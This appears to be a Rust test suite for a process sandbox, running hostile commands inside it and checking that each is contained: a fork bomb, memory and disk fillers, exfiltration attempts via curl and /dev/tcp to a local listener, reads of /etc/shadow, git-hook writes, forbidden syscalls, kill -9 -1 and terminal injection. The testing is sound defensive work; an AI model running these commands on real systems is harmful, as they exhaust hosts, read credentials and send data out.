//! The attack suite: what a hostile repository or model would try, each case contained,
//! reported with a clear result, and the host checked afterwards.

use std::io::ErrorKind;
use std::net::TcpListener;
use std::time::Duration;

use cap_sandbox::{DiskLimit, LimitHit, Limits};
use pretty_assertions::assert_eq;

use super::support::{Fixture, fixture_with, host_processes_with, run, spec, spec_timeout};

/// Small limits so each attack hits its limit quickly.
async fn tight() -> Fixture {
    tight_with(DiskLimit::Auto).await
}

async fn tight_with(disk_limit: DiskLimit) -> Fixture {
    fixture_with(|config| {
        config.disk_limit = disk_limit;
        config.limits = Limits {
            cpu_millis: 1000,
            memory_bytes: 96 << 20,
            max_processes: 64,
            disk_bytes: 16 << 20,
        };
        config.output_cap_bytes = 64 * 1024;
        config.term_grace = Duration::from_secs(1);
    })
    .await
}

/// The host is still fine: it can start processes and no sandboxed process is left.
fn host_unharmed(marker: &str) {
    let status = std::process::Command::new("true").status().unwrap();
    assert!(status.success());
    assert_eq!(host_processes_with(marker), Vec::<u32>::new(), "{marker}");
}

/// No cgroup of the sandbox is left behind for finished commands.
fn no_cgroups_left() -> bool {
    // Other tests run at the same time; only check that the parent is not accumulating
    // groups without bound (each finished command removes its own).
    std::fs::read_dir("/sys/fs/cgroup/pids/cap-sandbox")
        .map(|dir| dir.count() < 200)
        .unwrap_or(true)
}

#[tokio::test]
async fn fork_bomb_hits_the_process_limit() {
    let fx = tight().await;
    let id = fx.session().await;
    let ran = run(
        &fx.sandbox,
        &id,
        spec_timeout(
            "f0rk_x9() { f0rk_x9 | f0rk_x9 & }; f0rk_x9; sleep 3; echo after",
            20,
        ),
    )
    .await;
    assert!(
        ran.exit.limits_hit.contains(&LimitHit::Processes),
        "{ran:?}"
    );
    assert!(
        ran.stderr.contains("the process limit (64) was reached"),
        "{}",
        ran.stderr
    );
    host_unharmed("f0rk_x9");
    assert!(no_cgroups_left());
}

#[tokio::test]
async fn memory_hog_is_killed_at_the_memory_limit() {
    let fx = tight().await;
    let id = fx.session().await;
    let ran = run(
        &fx.sandbox,
        &id,
        spec_timeout(
            "python3 -c 'b = []\nwhile True: b.append(bytearray(1 << 20))'; echo exit=$?",
            60,
        ),
    )
    .await;
    assert!(ran.exit.limits_hit.contains(&LimitHit::Memory), "{ran:?}");
    // The shell survives (it is small) and sees python killed by SIGKILL.
    assert_eq!(ran.stdout, "exit=137\n", "{}", ran.stderr);
    assert!(ran.stderr.contains("the memory limit"), "{}", ran.stderr);
    host_unharmed("bytearray");
}

#[tokio::test]
async fn disk_filler_stops_at_the_file_size_limit_in_poll_mode() {
    let fx = tight_with(DiskLimit::Poll).await;
    let id = fx.session().await;
    // One huge file in the workspace: the file-size limit stops it (SIGXFSZ, 128 + 25).
    let ran = run(
        &fx.sandbox,
        &id,
        spec_timeout(
            "head -c 100000000 /dev/zero > /workspace/big; echo ws=$?; \
             head -c 100000000 /dev/zero > /tmp/big 2>/dev/null; echo tmp=$?; \
             ls -l /tmp/big | awk '{print $5}'",
            60,
        ),
    )
    .await;
    let lines: Vec<&str> = ran.stdout.lines().collect();
    assert_eq!(lines.first(), Some(&"ws=153"), "{ran:?}");
    assert_ne!(lines.get(1), Some(&"tmp=0"), "{ran:?}");
    let tmp_size: u64 = lines
        .get(2)
        .and_then(|s| s.parse().ok())
        .unwrap_or(u64::MAX);
    assert!(tmp_size <= 16 << 20, "{tmp_size}");
    let host_file = fx.root().join(&id).join("workspace/big");
    assert_eq!(std::fs::metadata(host_file).unwrap().len(), 16 << 20);
}

#[tokio::test]
async fn many_files_filling_the_workspace_are_killed_at_the_disk_limit_in_poll_mode() {
    let fx = tight_with(DiskLimit::Poll).await;
    let id = fx.session().await;
    // Each file under the per-file cap, together far over the disk limit.
    let ran = run(
        &fx.sandbox,
        &id,
        spec_timeout(
            "i=0; while [ $i -lt 200 ]; do head -c 1000000 /dev/zero > fill$i || break; i=$((i+1)); done; sleep 60",
            120,
        ),
    )
    .await;
    assert!(ran.exit.limits_hit.contains(&LimitHit::Disk), "{ran:?}");
    assert!(!ran.exit.timed_out);
    assert_eq!(ran.exit.exit_code, -1);
    assert!(ran.stderr.contains("the disk limit"), "{}", ran.stderr);
}

#[tokio::test]
async fn output_flood_is_capped_and_the_endless_writer_timed_out() {
    let fx = tight().await;
    let id = fx.session().await;
    let ran = run(&fx.sandbox, &id, spec_timeout("yes flood", 2)).await;
    assert!(ran.exit.output_truncated);
    assert!(ran.exit.timed_out);
    assert_eq!(ran.stdout.len() + ran.stderr.len(), 64 * 1024);
    host_unharmed("yes flood");
}

#[tokio::test]
async fn endless_loop_gets_sigterm_then_sigkill() {
    let fx = tight().await;
    let id = fx.session().await;
    // A command that stops cleanly on SIGTERM gets to do so.
    let ran = run(
        &fx.sandbox,
        &id,
        spec_timeout(
            "trap 'echo got-term; exit 3' TERM; while :; do sleep 0.1; done",
            1,
        ),
    )
    .await;
    assert!(ran.exit.timed_out);
    assert_eq!(ran.exit.exit_code, -1);
    assert_eq!(ran.stdout, "got-term\n", "{}", ran.stderr);
    // One that ignores SIGTERM is killed, with everything it started.
    let ran = run(
        &fx.sandbox,
        &id,
        spec_timeout("trap '' TERM; sleep 7654.3 & while :; do :; done", 1),
    )
    .await;
    assert!(ran.exit.timed_out);
    assert_eq!(ran.exit.exit_code, -1);
    host_unharmed("7654.3");
}

#[tokio::test]
async fn network_exfiltration_to_a_host_listener_fails_every_way() {
    let fx = tight().await;
    let id = fx.session().await;
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let attempts = [
        ("curl", format!("curl -sS -m 5 http://127.0.0.1:{port}/secret")),
        (
            "raw socket",
            format!(
                "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)\"; \
                 python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5)\""
            ),
        ),
        (
            "/dev/tcp",
            format!("bash -c 'echo secret > /dev/tcp/127.0.0.1/{port}'"),
        ),
        ("dns", "getent hosts example.com || python3 -c \"import socket; socket.getaddrinfo('example.com', 443)\"".to_owned()),
    ];
    for (name, command) in attempts {
        let ran = run(&fx.sandbox, &id, spec_timeout(&command, 20)).await;
        assert_ne!(ran.exit.exit_code, 0, "{name}: {ran:?}");
        assert!(!ran.stderr.is_empty(), "{name}: no error reported");
    }
    // Nothing ever reached the listener.
    match listener.accept() {
        Err(error) if error.kind() == ErrorKind::WouldBlock => {}
        other => panic!("the listener saw a connection: {other:?}"),
    }
}

#[tokio::test]
async fn host_files_outside_the_mounts_are_not_there() {
    let fx = tight().await;
    let id = fx.session().await;
    let sessions = fx.root().display().to_string();
    let command = format!(
        "for p in /etc/shadow /root /home /var /sys/kernel /boot '{sessions}' /proc/1/root/etc/shadow; do \
           if ls \"$p\" >/dev/null 2>&1; then echo \"visible $p\"; fi; done; \
         cat escape_dir/shadow 2>/dev/null && echo leaked; echo done"
    );
    let ran = run(&fx.sandbox, &id, spec(&command)).await;
    assert_eq!(ran.stdout, "done\n", "{}", ran.stderr);
}

#[tokio::test]
async fn writes_to_the_source_and_git_hooks_are_refused() {
    let fx = tight().await;
    let id = fx.session().await;
    let ran = run(
        &fx.sandbox,
        &id,
        spec(
            "{ echo evil > /repo/.git/hooks/pre-commit; } 2>&1; { echo evil > /repo/README.md; } 2>&1; \
             { chmod 777 /repo/.git; } 2>&1; exit 0",
        ),
    )
    .await;
    assert_eq!(
        ran.stdout.matches("Read-only file system").count(),
        3,
        "{}",
        ran.stdout
    );
    let source = fx.root().join(&id).join("source");
    assert!(!source.join(".git/hooks/pre-commit").exists());
    assert_eq!(
        std::fs::read_to_string(source.join("README.md")).unwrap(),
        "# Demo\n\nA tiny project.\n"
    );
}

#[tokio::test]
async fn ptrace_namespaces_and_mounts_are_refused_by_seccomp() {
    let fx = tight().await;
    let id = fx.session().await;
    let script = r#"
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
child = subprocess.Popen(["sleep", "30"])
def errno_of(result):
    return ctypes.get_errno() if result == -1 else 0
print("ptrace", errno_of(libc.ptrace(16, child.pid, 0, 0)))
print("unshare", errno_of(libc.unshare(0x10000000)))
print("mount", errno_of(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)))
print("keyctl", errno_of(libc.syscall(250, 0, 0, 0, 0, 0)))
print("bpf", errno_of(libc.syscall(321, 0, 0, 0)))
child.kill()
status = open("/proc/self/status").read()
for key in ("NoNewPrivs", "Seccomp:", "CapEff", "CapBnd", "Uid"):
    print([line for line in status.splitlines() if line.startswith(key)][0].split()[1])
"#;
    std::fs::write(fx.root().join(&id).join("workspace/attack.py"), script).unwrap();
    let ran = run(&fx.sandbox, &id, spec("python3 attack.py")).await;
    assert_eq!(
        ran.stdout,
        "ptrace 1\nunshare 1\nmount 1\nkeyctl 1\nbpf 1\n1\n2\n0000000000000000\n0000000000000000\n65534\n",
        "{}",
        ran.stderr
    );
    // The command-line tools see the same refusals.
    let ran = run(&fx.sandbox, &id, spec("unshare -U true; echo $?")).await;
    assert_ne!(ran.stdout, "0\n", "{}", ran.stderr);
}

#[tokio::test]
async fn processes_outside_the_sandbox_cannot_be_signalled() {
    let fx = tight().await;
    let id = fx.session().await;
    let mut victim = std::process::Command::new("sleep")
        .arg("6543.2")
        .spawn()
        .unwrap();
    let command = format!(
        "kill -9 {victim} {me} 2>&1; echo kill=$?; kill -9 -1 2>&1; echo done",
        victim = victim.id(),
        me = std::process::id()
    );
    let ran = run(&fx.sandbox, &id, spec(&command)).await;
    assert!(ran.stdout.contains("No such process"), "{ran:?}");
    // The victim is alive (try_wait: not exited) and so are we.
    assert!(victim.try_wait().unwrap().is_none());
    victim.kill().unwrap();
    victim.wait().unwrap();
}

#[tokio::test]
async fn terminal_injection_is_refused() {
    let fx = tight().await;
    let id = fx.session().await;
    let script = r#"
import fcntl, termios, os, errno
for fd, name in ((0, "stdin"), (1, "stdout")):
    try:
        fcntl.ioctl(fd, termios.TIOCSTI, b"x")
        print(name, "injected")
    except OSError as error:
        print(name, errno.errorcode[error.errno])
try:
    os.open("/dev/tty", os.O_RDWR)
    print("tty opened")
except OSError as error:
    print("tty", errno.errorcode[error.errno])
"#;
    std::fs::write(fx.root().join(&id).join("workspace/tty.py"), script).unwrap();
    let ran = run(&fx.sandbox, &id, spec("python3 tty.py")).await;
    assert_eq!(
        ran.stdout, "stdin EPERM\nstdout EPERM\ntty ENXIO\n",
        "{}",
        ran.stderr
    );
}

#[tokio::test]
async fn background_processes_do_not_outlive_the_command() {
    let fx = tight().await;
    let id = fx.session().await;
    let ran = run(
        &fx.sandbox,
        &id,
        spec(
            "(sleep 5432.1 &); nohup sleep 5432.2 >/dev/null 2>&1 & \
             setsid sleep 5432.3 >/dev/null 2>&1 < /dev/null & echo started",
        ),
    )
    .await;
    assert_eq!(ran.stdout, "started\n");
    assert_eq!(ran.exit.exit_code, 0);
    host_unharmed("5432.");
}

#[tokio::test]
async fn no_descriptor_of_the_host_leaks_in() {
    let fx = tight().await;
    let id = fx.session().await;
    // Only stdin, stdout and stderr (and the directory `ls` itself opens, fd 3).
    let ran = run(
        &fx.sandbox,
        &id,
        spec("ls /proc/self/fd | tr '\\n' ' '; readlink /proc/self/fd/0"),
    )
    .await;
    assert_eq!(ran.stdout, "0 1 2 3 /dev/null\n", "{}", ran.stderr);
}
